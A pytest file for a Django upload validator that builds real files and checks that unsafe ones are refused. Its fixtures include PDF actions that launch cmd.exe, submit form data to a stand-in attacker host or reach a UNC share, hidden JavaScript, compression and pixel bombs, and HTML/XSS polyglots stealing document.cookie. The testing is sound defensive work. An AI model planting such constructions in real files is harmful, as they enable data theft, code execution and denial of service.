"""Uploaded files are judged by their content: real PDFs, images and archives are made here, in the test."""

from __future__ import annotations

import gzip
import hashlib
import io
import struct
import tarfile
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject

from sopan.core import uploads
from sopan.core.uploads import JPEG, MB, PDF, PNG, CheckedFile, check_upload, human_size


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


# --- real files, made here -----------------------------------------------------------------------------------------
def pdf_bytes(change=None, *, pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)  # A4
    if change:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def image_bytes(fmt: str, size=(40, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, fmt)
    return out.getvalue()


def zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("akta.pdf", pdf_bytes())
    return out.getvalue()


def tar_bytes() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        data = pdf_bytes()
        info = tarfile.TarInfo("akta.pdf")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def blank_png(width: int, height: int) -> bytes:
    """A valid black-and-white PNG, written row by row: a huge image in a few kilobytes (a decompression bomb)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte, then 1 bit per pixel
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def with_javascript_link(writer: PdfWriter) -> None:
    """A link on the page that runs JavaScript when clicked: outside the catalogue, on an annotation."""
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x")})
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(100), FloatObject(100)]),
            NameObject("/A"): action,
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])


def with_launch_action(writer: PdfWriter) -> None:
    launch = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
    writer.root_object[NameObject("/OpenAction")] = launch


NOISE = b"".join(hashlib.sha256(bytes([i])).digest() for i in range(64))  # bytes of no known type


def upload(content: bytes, name: str = "dokumen.pdf", content_type: str = "application/pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def refused(uploaded, **kwargs) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        check_upload(uploaded, **kwargs)
    return caught.value


# --- accepted files ------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("content", "name", "content_type"),
    [
        (pdf_bytes(), "akta.pdf", PDF),
        (pdf_bytes(pages=3), "akta.pdf", PDF),
        (image_bytes("PNG"), "ktp.png", PNG),
        (image_bytes("JPEG"), "ktp.jpg", JPEG),
        (image_bytes("JPEG"), "ktp.jpeg", JPEG),
    ],
)
def test_a_real_pdf_or_image_is_accepted_with_what_it_is(content, name, content_type):
    checked = check_upload(upload(content, name))

    assert checked == CheckedFile(
        name=name,
        content_type=content_type,
        size=len(content),
        sha256=hashlib.sha256(content).hexdigest(),
        content=content,
    )


def test_the_browsers_content_type_is_ignored():
    checked = check_upload(upload(image_bytes("PNG"), "foto", content_type="application/pdf"))

    assert checked.content_type == PNG
    assert checked.name == "foto.png"


def test_a_file_of_exactly_the_limit_is_accepted():
    content = pdf_bytes()

    assert check_upload(upload(content), max_bytes=len(content)).size == len(content)


def test_allowed_narrows_the_types():
    error = refused(upload(image_bytes("PNG"), "foto.png"), allowed=(PDF,))

    assert error.messages == ["This file is a PNG image, not PDF."]
    assert error.code == "type_not_allowed"


def test_allowing_a_type_whose_content_cannot_be_checked_is_a_programming_error():
    with pytest.raises(ValueError, match="application/zip"):
        check_upload(upload(zip_bytes(), "x.zip"), allowed=(PDF, "application/zip"))


# --- size ----------------------------------------------------------------------------------------------------------
def test_an_empty_file_is_refused():
    error = refused(upload(b"", "kosong.pdf"))

    assert error.messages == ["The file is empty."]
    assert error.code == "empty"


def test_an_oversized_file_is_refused_with_its_size_and_the_limit():
    error = refused(upload(b"%PDF-1.7\n" + b"0" * (6 * MB), "besar.pdf"))

    assert error.messages == ["The file is 6 MB; the limit is 5 MB."]
    assert error.code == "too_large"


def test_the_limit_can_be_lowered():
    content = pdf_bytes()

    error = refused(upload(content), max_bytes=100)

    assert error.messages == [f"The file is {len(content)} B; the limit is 100 B."]


def test_one_byte_over_does_not_read_as_the_same_size_as_the_limit():
    error = refused(upload(b"%PDF-1.7\n" + b"0" * (5 * MB - 8), "besar.pdf"))

    assert error.messages == ["The file is larger than the limit of 5 MB."]


class EndlessUpload:
    """An upload that does not say its size and would never end: only the chunks asked for are made."""

    name = "endless.pdf"
    size = None

    def __init__(self):
        self.chunks_read = 0

    def chunks(self, chunk_size=64 * 1024):
        while True:
            self.chunks_read += 1
            yield b"%PDF-1.7\n".ljust(chunk_size, b"0")


def test_an_oversized_upload_is_read_only_up_to_the_limit():
    endless = EndlessUpload()

    error = refused(endless, max_bytes=MB)

    assert error.messages == ["The file is larger than the limit of 1 MB."]
    assert endless.chunks_read == MB // uploads.CHUNK_SIZE + 1


# --- names ---------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "uploaded",
    [
        ContentFile(pdf_bytes(), name="../x.pdf"),  # Django's UploadedFile keeps only the base name; File does not
        ContentFile(pdf_bytes(), name="a/b.pdf"),
        SimpleUploadedFile("C:\\x.pdf", pdf_bytes()),  # a Windows path survives Django's base name on Linux
        SimpleUploadedFile("..\\..\\x.pdf", pdf_bytes()),
        SimpleUploadedFile("C:x.pdf", pdf_bytes()),
        ContentFile(pdf_bytes(), name=".."),
    ],
)
def test_a_name_with_a_folder_path_is_refused(uploaded):
    error = refused(uploaded)

    assert error.messages == ["The file name must not contain a folder path."]
    assert error.code == "name_path"


@pytest.mark.parametrize(
    "name", ["akta\n.pdf", "akta\x00.pdf", "akta\x1b[31m.pdf", "akta\u202efdp.exe", "a\u200bkta.pdf"]
)
def test_a_name_with_control_characters_is_refused(name):
    error = refused(ContentFile(pdf_bytes(), name=name))

    assert error.messages == ["The file name must not contain control characters."]
    assert error.code == "name_control"


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("Laporan Keuangan 2024.PDF", "Laporan Keuangan 2024.pdf"),
        ("akta", "akta.pdf"),
        ("Akta No. 12", "Akta No. 12.pdf"),
        ("Laporan 2024.1", "Laporan 2024.1.pdf"),
        (".pdf", "file.pdf"),
        ("...rahasia.pdf", "rahasia.pdf"),
        ("", "file.pdf"),
        ("  akta   pendirian .pdf", "akta pendirian.pdf"),
        ('a<b>:c?"d|e*.pdf', "a_b__c__d_e_.pdf"),
    ],
)
def test_the_name_is_made_safe_and_gets_the_extension_of_its_content(name, safe):
    assert check_upload(ContentFile(pdf_bytes(), name=name)).name == safe


def test_a_long_name_is_shortened_and_keeps_its_extension():
    name = check_upload(upload(pdf_bytes(), "a" * 300 + ".pdf")).name

    assert name == "a" * 96 + ".pdf"


def test_a_long_name_in_a_wide_script_stays_within_what_file_systems_allow():
    name = check_upload(upload(pdf_bytes(), "📄" * 90 + ".pdf")).name

    assert name.endswith(".pdf")
    assert len(name.encode()) <= uploads.MAX_NAME_BYTES


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        (image_bytes("PNG"), "akta.pdf", "The file is named .pdf but its content is a PNG image."),
        (image_bytes("JPEG"), "ktp.png", "The file is named .png but its content is a JPG image."),
        (pdf_bytes(), "akta.jpg", "The file is named .jpg but its content is a PDF document."),
        (pdf_bytes(), "siup.v2", "The file is named .v2 but its content is a PDF document."),
        (image_bytes("PNG"), "shell.php", "The file is named .php but its content is a PNG image."),
    ],
)
def test_a_name_whose_extension_does_not_match_the_content_is_refused(content, name, message):
    error = refused(upload(content, name))

    assert error.messages == [message]
    assert error.code == "extension_mismatch"


# --- types that are not allowed ------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("content", "message"),
    [
        (zip_bytes(), "This file is a ZIP archive, not PDF, JPG or PNG."),
        (gzip.compress(pdf_bytes()), "This file is a gzip archive, not PDF, JPG or PNG."),
        (tar_bytes(), "This file is a TAR archive, not PDF, JPG or PNG."),
        # The signatures that open every 7z and RAR archive (the tools are not installed to make whole ones).
        (b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(64), "This file is a 7z archive, not PDF, JPG or PNG."),
        (b"Rar!\x1a\x07\x01\x00" + bytes(64), "This file is a RAR archive, not PDF, JPG or PNG."),
    ],
)
def test_archives_are_refused_whatever_their_name(content, message):
    error = refused(upload(content, "akta.pdf"))

    assert error.messages == [message]
    assert error.code == "archive"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"<!DOCTYPE html><html><body>Akta</body></html>", "This file is a web page (HTML), not PDF, JPG or PNG."),
        (b"Akta pendirian\n", "This file is a text file, not PDF, JPG or PNG."),
        (image_bytes("GIF"), "This file is a GIF image, not PDF, JPG or PNG."),
        (b"MZ" + bytes(200), "This file is a Windows program, not PDF, JPG or PNG."),
        (NOISE, "This file is a file of type application/octet-stream, not PDF, JPG or PNG."),
    ],
)
def test_other_contents_are_refused_naming_what_they_are(content, message):
    error = refused(upload(content, "akta"))

    assert error.messages == [message]
    assert error.code == "type_not_allowed"


# --- PDF content ---------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("keep", [0.9, 0.5, 0.2])
def test_a_truncated_pdf_is_refused_as_damaged(keep):
    content = pdf_bytes()

    error = refused(upload(content[: int(len(content) * keep)]))

    assert error.messages == ["The PDF file is damaged and cannot be opened."]
    assert error.code == "damaged"


def test_a_pdf_without_pages_is_refused():
    error = refused(upload(pdf_bytes(pages=0)))

    assert error.messages == ["The PDF file has no pages."]
    assert error.code == "pdf_no_pages"


@pytest.mark.parametrize(
    "encrypt",
    [
        lambda writer: writer.encrypt("rahasia"),
        # No password to open it, only restrictions: still encrypted, and still refused.
        lambda writer: writer.encrypt(user_password="", owner_password="pemilik"),
    ],
)
def test_an_encrypted_pdf_is_refused(encrypt):
    error = refused(upload(pdf_bytes(encrypt)))

    assert error.messages == [
        "The PDF file is encrypted; save it without a password or protection and upload it again."
    ]
    assert error.code == "pdf_encrypted"


@pytest.mark.parametrize(
    "content",
    [
        pdf_bytes(lambda writer: writer.add_open_action(JavaScript("app.alert('x');"))),  # the names tree
        pdf_bytes(with_javascript_link),  # a link on a page
        # The same with the names written in hex escapes (#61 is "a", #53 is "S"), as malicious files do.
        pdf_bytes(lambda writer: writer.add_open_action(JavaScript("app.alert('x');")))
        .replace(b"/JavaScript", b"/J#61vaScript")
        .replace(b"/JS ", b"/J#53 "),
    ],
)
def test_a_pdf_with_javascript_is_refused(content):
    error = refused(upload(content))

    assert error.messages == ["The PDF file contains JavaScript; upload a PDF without scripts."]
    assert error.code == "pdf_javascript"


def test_a_pdf_with_embedded_files_is_refused():
    error = refused(upload(pdf_bytes(lambda writer: writer.add_attachment("payload.exe", b"MZ" + bytes(100)))))

    assert error.messages == ["The PDF file contains embedded files; upload a PDF without attachments."]
    assert error.code == "pdf_embedded_file"


def test_a_pdf_that_launches_a_program_is_refused():
    error = refused(upload(pdf_bytes(with_launch_action)))

    assert error.messages == ["The PDF file contains an action that starts a program."]
    assert error.code == "pdf_launch"


def test_a_pdf_with_more_objects_than_can_be_checked_is_refused(monkeypatch):
    monkeypatch.setattr(uploads.pdf, "PDF_MAX_OBJECTS", 3)

    error = refused(upload(pdf_bytes(pages=5)))

    assert error.code == "pdf_too_complex"


# --- image content -------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(("fmt", "name", "label"), [("PNG", "ktp.png", "PNG"), ("JPEG", "ktp.jpg", "JPG")])
def test_a_truncated_image_is_refused_as_damaged(fmt, name, label):
    content = image_bytes(fmt, size=(300, 200))

    error = refused(upload(content[: len(content) // 2], name))

    assert error.messages == [f"The {label} file is damaged and cannot be opened."]
    assert error.code == "damaged"


@pytest.mark.parametrize(("fmt", "name"), [("PNG", "ktp.png"), ("JPEG", "ktp.jpg")])
def test_a_truncated_image_is_refused_even_after_weasyprint_relaxed_pillow(monkeypatch, fmt, name):
    import weasyprint  # noqa: F401 - importing it sets ImageFile.LOAD_TRUNCATED_IMAGES for the whole process
    from PIL import ImageFile

    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    content = image_bytes(fmt, size=(300, 200))

    assert refused(upload(content[: len(content) // 2], name)).code == "damaged"
    assert refused(upload(content[: len(content) - 2], name)).code == "damaged"  # only the end marker missing


def test_a_png_with_a_wrong_checksum_is_refused_as_damaged():
    content = bytearray(image_bytes("PNG"))
    content[-20] ^= 0xFF  # inside the image data: its CRC no longer matches

    error = refused(upload(bytes(content), "ktp.png"))

    assert error.code == "damaged"


def test_an_image_over_the_pixel_limit_is_refused_with_its_size():
    error = refused(upload(blank_png(8000, 7000), "denah.png"))

    assert error.messages == ["The image is 8000 × 7000 pixels (56 megapixels); the limit is 40 megapixels."]
    assert error.code == "image_too_large"


@pytest.mark.parametrize(
    ("side", "message"),
    [
        # Over Pillow's warning threshold (DecompressionBombWarning)
        (10_000, "The image has more than 89.5 megapixels; the limit is 40 megapixels."),
        # Over twice that, where Pillow refuses outright (DecompressionBombError)
        (20_000, "The image has more than 179 megapixels; the limit is 40 megapixels."),
    ],
)
def test_a_decompression_bomb_is_refused(side, message):
    bomb = blank_png(side, side)
    assert len(bomb) < 100_000  # tiny on disk, gigabytes once decoded

    error = refused(upload(bomb, "bom.png"))

    assert error.messages == [message]
    assert error.code == "image_too_large"


# --- sizes for people ----------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("n", "shown"),
    [
        (0, "0 B"),
        (1, "1 B"),
        (1023, "1023 B"),
        (1024, "1 KB"),
        (1536, "1.5 KB"),
        (1024 * 1024 - 1, "1 MB"),
        (5 * MB, "5 MB"),
        (int(7.5 * MB), "7.5 MB"),
        (3 * 1024 * MB, "3 GB"),
    ],
)
def test_human_size(n, shown):
    assert human_size(n) == shown


# === issue 13 §3: active content, bombs, polyglots, office files ===================================================
# Every file below was accepted and stored before; each is built here, in the test.
def raw_pdf(*, catalog: bytes = b"", page: bytes = b"", objects: tuple[bytes, ...] = (), prefix: bytes = b"") -> bytes:
    """A PDF written byte by byte, for what pypdf's writer will not make: objects 1 (catalogue), 2 (pages) and
    3 (page) are given, `objects` become 4, 5, …; `catalog` and `page` are added inside those dictionaries."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page + b" >>",
        *objects,
    ]
    out = bytearray(prefix + b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, xref)
    return bytes(out)


def stream(data: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< /Length %d " % len(data) + dictionary + b" >>\nstream\n" + data + b"\nendstream"


def objstm_pdf(catalog: bytes) -> bytes:
    """A PDF 1.5 whose catalogue, pages and page sit inside an object stream, indexed by a cross-reference stream:
    objects a reader finds only by decoding another object."""
    inner = [
        b"<< /Type /Catalog /Pages 3 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] >>",
    ]
    header, body = b"", b""
    for number, obj in enumerate(inner, start=2):
        header += b"%d %d " % (number, len(body))
        body += obj + b"\n"
    packed = zlib.compress(header + body)
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    objstm_at = len(out)
    out += b"1 0 obj\n" + stream(packed, b"/Type /ObjStm /N 3 /First %d /Filter /FlateDecode" % len(header))
    out += b"\nendobj\n"
    xref_at = len(out)
    rows = [b"\x00" + struct.pack(">I", 0) + b"\xff\xff", b"\x01" + struct.pack(">I", objstm_at) + b"\x00\x00"]
    rows += [b"\x02" + struct.pack(">I", 1) + struct.pack(">H", index) for index in range(3)]
    rows += [b"\x01" + struct.pack(">I", xref_at) + b"\x00\x00"]
    out += b"5 0 obj\n" + stream(b"".join(rows), b"/Type /XRef /Size 6 /W [1 4 2] /Root 2 0 R") + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


XFA_WITH_SCRIPT = (
    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">'
    b'<subform name="form1"><event activity="initialize"><script contentType="application/x-javascript">'
    b"xfa.host.messageBox('x');</script></event></subform></template></xdp:xdp>"
)

# The actions a document may run by itself, and where it can hide them.
AUTOMATIC_ACTIONS = {
    "SubmitForm": b"<< /S /SubmitForm /F << /FS /URL /F (https://penyerang.example/ambil) >> >>",
    "URI": b"<< /S /URI /URI (https://penyerang.example/buka) >>",
    "GoToR to a UNC path": b"<< /S /GoToR /F (\\\\\\\\10.0.0.66\\\\share\\\\a.pdf) /D [0 /Fit] >>",
    "GoToE": b"<< /S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit] >>",
    "ImportData": b"<< /S /ImportData /F (\\\\\\\\10.0.0.66\\\\share\\\\data.fdf) >>",
    "Launch": b"<< /S /Launch /F (cmd.exe) >>",
}


@pytest.mark.parametrize("action", AUTOMATIC_ACTIONS.values(), ids=AUTOMATIC_ACTIONS.keys())
@pytest.mark.parametrize(
    "place",
    [
        lambda action: raw_pdf(catalog=b"/OpenAction " + action),
        lambda action: raw_pdf(catalog=b"/OpenAction 4 0 R", objects=(action,)),  # indirect
        lambda action: raw_pdf(catalog=b"/AA << /WC " + action + b" >>"),  # when the document closes
        lambda action: raw_pdf(page=b"/AA << /O 4 0 R >>", objects=(action,)),  # when the page opens
        # on a form field's widget, when the mouse enters it
        lambda action: raw_pdf(
            catalog=b"/AcroForm << /Fields [4 0 R] >>",
            page=b"/Annots [4 0 R]",
            objects=(
                b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (a) /Rect [0 0 10 10] /P 3 0 R /AA << /E "
                + action
                + b" >> >>",
            ),
        ),
        # at the end of a chain: an innocent GoTo whose /Next is an array holding the action
        lambda action: raw_pdf(
            catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [ << /S /GoTo /D [3 0 R /Fit] >> 4 0 R ] >>",
            objects=(action,),
        ),
        # inside an object stream, found only by decoding it
        lambda action: objstm_pdf(b"/OpenAction " + action),
    ],
    ids=["open", "open-indirect", "catalog-aa", "page-aa", "field-aa", "next-chain", "object-stream"],
)
def test_a_pdf_that_runs_an_action_by_itself_is_refused(action, place):
    error = refused(upload(place(action)))

    assert error.code in ("pdf_action", "pdf_automatic_link", "pdf_launch")


def test_a_pdf_opening_a_web_address_by_itself_says_so():
    error = refused(upload(raw_pdf(catalog=b"/OpenAction " + AUTOMATIC_ACTIONS["URI"])))

    assert error.messages == ["The PDF file opens a web address by itself when it is viewed; upload a PDF without it."]
    assert error.code == "pdf_automatic_link"


@pytest.mark.parametrize("action", ["SubmitForm", "GoToR to a UNC path", "GoToE", "ImportData"])
def test_a_pdf_that_sends_data_or_opens_other_files_is_refused_even_on_a_click(action):
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A " + AUTOMATIC_ACTIONS[action] + b" >>"

    error = refused(upload(raw_pdf(page=b"/Annots [4 0 R]", objects=(link,))))

    assert error.messages == [
        "The PDF file contains an action that sends form data or opens another file; upload a PDF without it."
    ]
    assert error.code == "pdf_action"


@pytest.mark.parametrize(
    "uri", [b"file:///C:/Windows/system32/calc.exe", b"\\\\\\\\10.0.0.66\\\\share", b"javascript:1"]
)
def test_a_pdf_link_to_a_file_or_a_network_share_is_refused(uri):
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (" + uri + b") >> >>"

    error = refused(upload(raw_pdf(page=b"/Annots [4 0 R]", objects=(link,))))

    assert error.code == "pdf_link"


def test_a_pdf_with_a_cycle_of_actions_is_checked_to_its_end():
    # 4 → 5 → 4 …: the walk must end, and still find the web address opened on page load
    error = refused(
        upload(
            raw_pdf(
                page=b"/AA << /O 4 0 R >>",
                objects=(
                    b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
                    b"<< /S /URI /URI (https://x.example) /Next 4 0 R >>",
                ),
            )
        )
    )

    assert error.code == "pdf_automatic_link"


def test_a_pdf_with_an_xfa_form_is_refused():
    content = raw_pdf(catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>", objects=(stream(XFA_WITH_SCRIPT),))

    error = refused(upload(content))

    assert error.messages == [
        "The PDF file contains an XFA form, which can run scripts; print it to a new PDF and upload that."
    ]
    assert error.code == "pdf_xfa"


@pytest.mark.parametrize(
    "annotation",
    [
        b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << >> >>",
        b"<< /Type /Annot /Subtype /3D /Rect [0 0 10 10] >>",
    ],
    ids=["richmedia", "3d"],
)
def test_a_pdf_with_multimedia_or_3d_is_refused(annotation):
    error = refused(upload(raw_pdf(page=b"/Annots [4 0 R]", objects=(annotation,))))

    assert error.messages == ["The PDF file contains multimedia or 3D content; upload a PDF without it."]
    assert error.code == "pdf_rich_media"


def test_javascript_in_an_object_no_page_refers_to_is_found():
    # A reader repairing the file, or a script, can still reach an object the catalogue does not: every object counts.
    orphan = b"<< /S /JavaScript /JS (app.alert(1)) >>"

    assert refused(upload(raw_pdf(objects=(orphan,)))).code == "pdf_javascript"


def test_javascript_inside_an_object_stream_is_found():
    content = objstm_pdf(b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >> >>")

    assert refused(upload(content)).code == "pdf_javascript"


# --- decompression bombs inside PDFs
def flate_bomb(size: int) -> bytes:
    """`size` bytes of zeros deflated at level 9, made a megabyte at a time: about 1/1000 of the size."""
    compressor = zlib.compressobj(9)
    block = bytes(MB)
    return b"".join(compressor.compress(block) for _ in range(size // MB)) + compressor.flush()


@pytest.fixture(scope="module")
def bomb_200mb() -> bytes:
    return flate_bomb(200 * MB)


def test_a_flate_bomb_in_a_pdf_is_refused_without_inflating_it_in_memory(bomb_200mb):
    import tracemalloc

    content = raw_pdf(page=b"/Contents 4 0 R", objects=(stream(bomb_200mb, b"/Filter /FlateDecode"),))
    assert len(content) < 210 * 1024  # the 204 KB of the issue

    tracemalloc.start()
    try:
        error = refused(upload(content))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert error.messages == ["The PDF file expands to more than 80 MB when opened (a compression bomb)."]
    assert error.code == "pdf_decompression_bomb"
    assert peak < 40 * MB  # measured incrementally: never the 200 MB, nor even the 80 MB limit, at once


def test_many_small_bombs_add_up(bomb_200mb):
    twenty_mb = flate_bomb(20 * MB)
    objects = tuple(stream(twenty_mb, b"/Filter /FlateDecode") for _ in range(5))

    assert refused(upload(raw_pdf(objects=objects))).code == "pdf_decompression_bomb"


def test_a_bomb_inside_two_layers_of_compression_is_refused():
    twice = zlib.compress(flate_bomb(100 * MB), 9)

    error = refused(upload(raw_pdf(objects=(stream(twice, b"/Filter [/FlateDecode /FlateDecode]"),))))

    assert error.code == "pdf_decompression_bomb"


def test_a_bomb_of_raw_deflate_without_a_zlib_header_is_refused():
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    raw = b"".join(compressor.compress(bytes(MB)) for _ in range(100)) + compressor.flush()

    error = refused(upload(raw_pdf(objects=(stream(raw, b"/Filter /FlateDecode"),))), max_bytes=MB)

    assert error.code == "pdf_decompression_bomb"


def test_the_decompressed_limit_follows_the_size_limit():
    objects = (stream(flate_bomb(30 * MB), b"/Filter /FlateDecode"),)

    assert refused(upload(raw_pdf(objects=objects)), max_bytes=MB).code == "pdf_decompression_bomb"  # 16 MB
    assert check_upload(upload(raw_pdf(objects=objects)), max_bytes=5 * MB).content_type == PDF  # 80 MB


def test_a_pdf_image_of_too_many_pixels_is_refused():
    image = stream(
        b"\xff\xd8\xff\xd9",
        b"/Type /XObject /Subtype /Image /Width 7000 /Height 7000 /BitsPerComponent 8 "
        b"/ColorSpace /DeviceGray /Filter /DCTDecode",
    )

    error = refused(upload(raw_pdf(page=b"/Resources << /XObject << /Im0 4 0 R >> >>", objects=(image,))))

    assert error.messages == [
        "The PDF file contains an image of 7000 × 7000 pixels (49 megapixels); the limit is 40 megapixels."
    ]
    assert error.code == "pdf_image_too_large"


# --- polyglots
@pytest.mark.parametrize(
    "content",
    [
        # HTML in a comment line right after the header: a browser sniffing the first bytes sees a web page
        pdf_bytes().replace(b"\n", b"\n%<html><body><script>alert(document.cookie)</script></body></html>\n", 1),
        pdf_bytes().replace(b"\n", b"\n% <!DOCTYPE HTML>\n", 1),
        pdf_bytes().replace(b"\n", b"\n%<svg onload=alert(1)>\n", 1),
        pdf_bytes().replace(b"\n", b"\n%<IFRAME src=x>\n", 1),
        # HTML in UTF-16, as browsers also read it
        pdf_bytes().replace(b"\n", b"\n%" + "<script>alert(1)</script>".encode("utf-16-le") + b"\n", 1),
        # HTML before the header, which readers skip (libmagic still says PDF)
        b"<html><body><script>alert(1)</script><!--\n" + pdf_bytes(),
        b"\xef\xbb\xbf  \n<HTML>" + pdf_bytes(),
    ],
    ids=["comment", "doctype", "svg", "iframe", "utf16", "before-header", "bom-before-header"],
)
def test_a_pdf_html_polyglot_is_refused(content):
    error = refused(upload(content))

    assert error.messages == [
        "The PDF file contains web page (HTML) code; save it again from the program that made it and upload that."
    ]
    assert error.code == "html_polyglot"


def jpeg_with(**options) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 30, 30)).save(out, "JPEG", **options)
    return out.getvalue()


@pytest.mark.parametrize(
    ("content", "name", "label"),
    [
        (jpeg_with(comment=b"<html><script>alert(document.cookie)</script></html>"), "ktp.jpg", "JPG"),
        # the comment after 4 KB of metadata, past what the first bytes show
        (jpeg_with(exif=b"Exif\x00\x00" + bytes(4096), comment=b"<body onload=alert(1)>"), "ktp.jpg", "JPG"),
        (
            image_bytes("PNG")[:33] + b"\x00\x00\x00\x13tEXt<script>alert(1)" + b"\x00" * 4 + image_bytes("PNG")[33:],
            "ktp.png",
            "PNG",
        ),
    ],
    ids=["jpeg-comment", "jpeg-late-comment", "png-head"],
)
def test_an_image_html_polyglot_is_refused(content, name, label):
    error = refused(upload(content, name))

    assert error.messages == [
        f"The {label} file contains web page (HTML) code; save it again from the program that made it and upload that."
    ]
    assert error.code == "html_polyglot"


def test_a_png_with_html_in_a_text_chunk_is_refused():
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Description", "x" * 3000)  # pushes the next chunk past the first kilobytes
    info.add_itxt("Comment", "<script>alert(1)</script>", zip=True)  # compressed: not visible in the raw bytes
    out = io.BytesIO()
    Image.new("RGB", (40, 30)).save(out, "PNG", pnginfo=info)

    assert refused(upload(out.getvalue(), "ktp.png")).code == "html_polyglot"


# --- pixels
def test_a_49_megapixel_png_is_refused():
    error = refused(upload(blank_png(7000, 7000), "denah.png"))

    assert error.messages == ["The image is 7000 × 7000 pixels (49 megapixels); the limit is 40 megapixels."]
    assert error.code == "image_too_large"


def test_the_pixel_limit_holds_when_pillows_own_check_is_switched_off(monkeypatch):
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", None)  # as some libraries do, for the whole process

    error = refused(upload(blank_png(20_000, 20_000), "bom.png"))

    assert error.messages == ["The image is 20000 × 20000 pixels (400 megapixels); the limit is 40 megapixels."]


def test_a_legacy_office_document_where_office_files_are_not_allowed_is_named():
    error = refused(upload(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "laporan.doc"))

    assert error.messages == ["This file is an old-format Office document, not PDF, JPG or PNG."]
    assert error.code == "type_not_allowed"


def test_an_a4_scan_at_600_dpi_is_accepted():
    assert check_upload(upload(blank_png(4961, 7016), "scan.png")).content_type == PNG  # 34.8 megapixels


# --- ordinary documents still pass
def test_a_pdf_with_a_clickable_web_link_is_accepted():
    from pypdf.annotations import Link

    def with_link(writer):
        writer.add_annotation(0, Link(rect=(50, 50, 200, 70), url="https://lpse.salatiga.go.id"))
        writer.add_annotation(0, Link(rect=(50, 80, 200, 100), url="mailto:lpse@salatiga.go.id"))

    assert check_upload(upload(pdf_bytes(with_link))).content_type == PDF


